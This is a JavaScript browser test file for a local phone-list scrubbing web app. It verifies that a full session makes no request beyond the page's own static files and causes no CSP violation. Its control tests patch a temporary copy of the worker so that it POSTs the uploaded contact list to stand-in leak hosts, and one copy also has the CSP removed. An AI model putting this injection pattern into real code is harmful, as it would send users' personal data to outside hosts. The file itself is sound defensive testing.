// Invariant 1: nothing leaves the machine. Every request the page and its worker make in
// a whole session goes to the page's own origin and is one of the static files, and the
// Content-Security-Policy is never violated, in the page or in its worker.
//
// The check is one function, `sessionLeaks`, run against the real page and, as positive
// controls, against deliberately broken copies of it whose worker calls fetch() to an
// outside host and to another port of 127.0.0.1 during the scrub: once as shipped (the
// CSP blocks the calls; the check must see the violations) and once with the CSP taken
// off (the calls go out; the check must see the requests). A check that passes the real
// page but not its controls would prove nothing. The broken copies are built into a
// temporary directory at test time and never committed.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { cp, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setUp, openPage, chooseList, download, FIXTURES, ROOT } from './helpers.mjs';
import { startServer, MIME_TYPES } from '../../scripts/serve.mjs';

/** The files the page is made of; nothing else may be requested. */
const STATIC_FILE = /^\/(|index\.html|[\w-]+\.js|[\w-]+\.css|pkg(?:-full)?\/phonescrub\.js|pkg(?:-full)?\/phonescrub_bg\.wasm)$/;

/** Where the broken worker sends the list: an outside host, and the page's host on another port. */
const LEAK_URLS = ['https://example.invalid/leak', 'http://127.0.0.1:1/leak'];

/** @type {Awaited<ReturnType<typeof setUp>>} */
let env;
/** A temporary directory for the broken copies. */
let scratch = '';

before(async () => {
  env = await setUp();
  scratch = await mkdtemp(path.join(tmpdir(), 'phonescrub-leaky-'));
});

after(async () => {
  await env?.tearDown();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

/**
 * Runs a whole session (open, choose a list, add an opt-out list, scrub, download the
 * cleaned file and the receipt) on the page at `url` and returns every way the page or
 * its worker reached beyond the page's own static files: requests to other origins or to
 * anything but a static file, policy violations (page and worker), CSP console errors.
 * @param {{page: import('playwright-core').Page, context: import('playwright-core').BrowserContext}} browser
 * @param {string} url
 * @returns {Promise<{leaks: string[], requests: Array<{url: string, method: string}>, cleaned: string}>}
 */
async function sessionLeaks({ page, context }, url) {
  const origin = new URL(url).origin;
  /** @type {Array<{url: string, method: string}>} */
  const requests = [];
  /** @type {string[]} */
  const consoleProblems = [];
  /** @type {Set<import('playwright-core').Worker>} */
  const workers = new Set();

  // The context sees the requests of the page and of its workers.
  const onRequest = (/** @type {import('playwright-core').Request} */ r) => requests.push({ url: r.url(), method: r.method() });
  const watchConsole = (/** @type {import('playwright-core').ConsoleMessage} */ m) => {
    if (/Content Security Policy|Refused to/i.test(m.text())) consoleProblems.push(m.text());
  };
  // A worker has its own global scope: its violations reach neither the page's listener
  // nor, in Chromium, the console events Playwright reports, and a request the policy
  // blocks is no request event either. The first control showed that without this
  // recorder a worker's blocked leak went unnoticed. (It is installed as the worker
  // starts, so a call in the worker's very first microseconds could slip past it; the
  // request recorder still sees such a call if the policy were ever missing.)
  const onWorker = (/** @type {import('playwright-core').Worker} */ w) => {
    workers.add(w);
    w.on('console', watchConsole);
    w.evaluate(() => {
      const scope = /** @type {any} */ (self);
      scope.__cspViolations ??= [];
      scope.addEventListener('securitypolicyviolation', (/** @type {SecurityPolicyViolationEvent} */ e) =>
        scope.__cspViolations.push(`worker: ${e.violatedDirective} ${e.blockedURI}`),
      );
    }).catch(() => {}); // a worker that ended first has nothing more to say
  };
  context.on('request', onRequest);
  page.on('console', watchConsole);
  page.on('worker', onWorker);
  try {
    await openPage(page, url);
    await chooseList(page, path.join(FIXTURES, 'contacts.csv'));
    await page.locator('#step-review').waitFor();
    await page.locator('#optout-details summary').click();
    await page.locator('#optout-input').setInputFiles({ name: 'do-not-call.csv', mimeType: 'text/csv', buffer: Buffer.from('number\n+447911123456\n') });
    await page.locator('#optout-list li').waitFor();
    await page.fill('#region', 'GB');
    await page.getByRole('button', { name: 'Scrub list' }).click();
    await page.locator('#step-results').waitFor();
    const cleaned = await download(page, /cleaned CSV/);
    await download(page, /printable receipt/);
    // Let anything still on its way (an unawaited fetch, a late violation report) arrive.
    await page.waitForTimeout(1000);

    /** @type {string[]} */
    const leaks = [];
    for (const r of requests) {
      const u = new URL(r.url);
      if (u.protocol === 'blob:' || u.protocol === 'data:') {
        // In-memory: downloads (blob: URLs of this origin) and the inline icon.
        if (u.protocol === 'blob:' && !r.url.startsWith(`blob:${origin}/`)) leaks.push(`blob of another origin: ${r.url}`);
        continue;
      }
      if (u.origin !== origin) leaks.push(`request to another origin: ${r.method} ${r.url}`);
      else if (r.method !== 'GET') leaks.push(`not a GET: ${r.method} ${r.url}`);
      else if (!STATIC_FILE.test(u.pathname)) leaks.push(`not a static file: ${r.url}`);
      else if (u.search !== '') leaks.push(`a query string could carry data: ${r.url}`);
    }
    const pageViolations = await page.evaluate(() => /** @type {any} */ (window).__cspViolations ?? ['the violation recorder did not run']);
    leaks.push(...pageViolations.map((/** @type {string} */ v) => `CSP violation: ${v}`));
    for (const w of workers) {
      const found = await w.evaluate(() => /** @type {any} */ (self).__cspViolations ?? []).catch(() => []);
      leaks.push(...found.map((/** @type {string} */ v) => `CSP violation: ${v}`));
    }
    leaks.push(...consoleProblems.map((text) => `console: ${text}`));
    return { leaks, requests, cleaned: cleaned.text };
  } finally {
    context.off('request', onRequest);
    page.off('console', watchConsole);
    page.off('worker', onWorker);
  }
}

/** Records policy violations in every page of `context` from its very first script on. */
async function recordPageViolations(/** @type {import('playwright-core').BrowserContext} */ context) {
  await context.addInitScript(() => {
    /** @type {any} */ (window).__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      /** @type {any} */ (window).__cspViolations.push(`page: ${e.violatedDirective} ${e.blockedURI}`);
    });
  });
}

/**
 * Copies www/ to `dir` with a worker that sends the list it is asked to scrub to
 * LEAK_URLS (unawaited, errors swallowed, so the scrub itself still succeeds); with
 * `withoutCsp`, the page's <meta> policy is removed too.
 * @param {string} dir
 * @param {{withoutCsp?: boolean}} [options]
 */
async function buildLeakyCopy(dir, { withoutCsp = false } = {}) {
  await cp(path.join(ROOT, 'www'), dir, { recursive: true });
  const workerFile = path.join(dir, 'worker.js');
  const worker = await readFile(workerFile, 'utf8');
  const anchor = "    case 'scrub':\n";
  assert.equal(worker.split(anchor).length, 2, 'worker.js has one scrub case to patch');
  const leak = LEAK_URLS.map((u) => `      fetch(${JSON.stringify(u)}, { method: 'POST', body: message.input, mode: 'no-cors' }).catch(() => {});\n`).join('');
  await writeFile(workerFile, worker.replace(anchor, anchor + leak));
  if (withoutCsp) {
    const indexFile = path.join(dir, 'index.html');
    const html = await readFile(indexFile, 'utf8');
    const meta = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/;
    assert.match(html, meta);
    await writeFile(indexFile, html.replace(meta, ''));
  }
}

/**
 * A bare static server for `root` that sends no security headers at all: the control
 * that the request recorder, not only the policy, catches a leak.
 * @param {string} root
 */
async function startBareServer(root) {
  const server = createServer(async (req, res) => {
    const pathname = new URL(req.url ?? '/', 'http://localhost').pathname;
    const file = path.join(root, pathname === '/' ? 'index.html' : pathname);
    if (!file.startsWith(root + path.sep)) return void res.writeHead(400).end();
    try {
      const body = await readFile(file);
      res.writeHead(200, { 'Content-Type': MIME_TYPES[/** @type {keyof typeof MIME_TYPES} */ (path.extname(file))] ?? 'application/octet-stream' }).end(body);
    } catch {
      res.writeHead(404).end();
    }
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => new Promise((resolve) => server.close(() => resolve(undefined))),
  };
}

test('a full session requests only the static files of its own origin, and violates no CSP', async () => {
  const { context, server, pageErrors } = env;
  await recordPageViolations(context);
  const { leaks, requests, cleaned } = await sessionLeaks(env, server.url);
  assert.doesNotMatch(cleaned, /447911123456/, 'the opt-out list was applied');

  const workerScriptSeen = requests.some((r) => new URL(r.url).pathname === '/worker.js');
  const wasmSeen = requests.some((r) => r.url.endsWith('/pkg/phonescrub_bg.wasm'));
  assert.ok(workerScriptSeen && wasmSeen, `the worker's own requests are recorded too:\n${requests.map((r) => r.url).join('\n')}`);
  // A CSV session runs on the core engine: the full one (spreadsheets, encryption) is never fetched.
  const full = requests.filter((r) => r.url.includes('/pkg-full/'));
  assert.deepEqual(full, [], 'a CSV scrub does not fetch the full engine');
  assert.deepEqual(leaks, []);
  assert.deepEqual(pageErrors, []);
});

test('control: the check catches a worker that leaks the list, under the shipped CSP', async () => {
  const dir = path.join(scratch, 'with-csp');
  await buildLeakyCopy(dir);
  const leaky = await startServer({ root: dir, port: 0 });
  const browser = await setUp();
  try {
    await recordPageViolations(browser.context);
    const { leaks } = await sessionLeaks(browser, leaky.url);
    // The policy stops both calls; the check must report each one.
    for (const url of LEAK_URLS) {
      assert.ok(leaks.some((l) => l.startsWith('CSP violation: worker: connect-src') && l.includes(url)), `${url} is reported:\n${leaks.join('\n')}`);
    }
  } finally {
    await browser.tearDown();
    await leaky.close();
  }
});

test('control: the check catches a worker that leaks the list when no CSP is in force', async () => {
  const dir = path.join(scratch, 'without-csp');
  await buildLeakyCopy(dir, { withoutCsp: true });
  const bare = await startBareServer(await realpath(dir));
  const browser = await setUp();
  try {
    await recordPageViolations(browser.context);
    const { leaks } = await sessionLeaks(browser, bare.url);
    // Nothing blocks the calls now: the request recorder alone must see both.
    for (const url of LEAK_URLS) {
      assert.ok(leaks.some((l) => l === `request to another origin: POST ${url}`), `${url} is reported:\n${leaks.join('\n')}`);
    }
    assert.ok(!leaks.some((l) => l.startsWith('CSP violation')), `no policy was in force:\n${leaks.join('\n')}`);
  } finally {
    await browser.tearDown();
    await bare.close();
  }
});
